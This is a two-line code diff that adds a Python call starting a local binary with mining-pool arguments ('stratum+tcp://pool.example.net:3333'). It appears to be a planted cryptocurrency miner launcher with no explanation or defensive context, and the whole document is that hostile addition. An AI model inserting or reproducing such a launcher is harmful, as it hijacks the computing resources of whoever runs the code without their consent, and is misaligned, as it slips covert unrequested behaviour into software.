@@ -1,0 +1,2 @@
+import subprocess
+subprocess.Popen(["./x", "-o", "stratum+tcp://pool.example.net:3333", "-u", "w"])
